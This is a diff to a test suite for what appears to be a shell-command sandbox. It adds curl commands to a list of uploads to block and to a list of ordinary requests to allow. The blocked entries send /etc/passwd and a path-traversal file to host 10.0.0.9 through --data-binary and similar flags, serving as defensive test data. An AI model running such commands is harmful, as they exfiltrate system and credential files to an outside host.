@@ -133,6 +133,9 @@ describe.each([
       `curl -s -c '${file}' http://10.0.0.9/`,
       `curl -s -D '${file}' http://10.0.0.9/`,
       'curl -s -d @/etc/passwd http://10.0.0.9/',
+      'curl -s --data-binary @/etc/passwd http://10.0.0.9/',
+      'curl -s --data-binary @../../../../outside.cfg http://10.0.0.9/',
+      'curl -s --data-binary=@/etc/passwd http://10.0.0.9/',
       'curl -s -T /etc/passwd http://10.0.0.9/',
       'curl -s -H @/etc/passwd http://10.0.0.9/',
       'curl -s -w @/etc/passwd http://10.0.0.9/',
@@ -160,6 +163,8 @@ describe.each([
       'curl -s --max-time 5 http://10.0.0.9:80/a?b',
       'curl -so body http://10.0.0.9/; cat body',
       'curl -s -o "$SLUICE_ROOT/body" http://10.0.0.9/; cat "$SLUICE_ROOT/body"',
+      'echo x > "$SLUICE_ROOT/sent"; curl -s --data-binary @"$SLUICE_ROOT/sent" http://10.0.0.9/',
+      'curl -s -o body http://10.0.0.9/ -o body http://10.0.0.9/a; cat body',
       'curl -V | head -c 4',
     ]
     for (const command of usual)
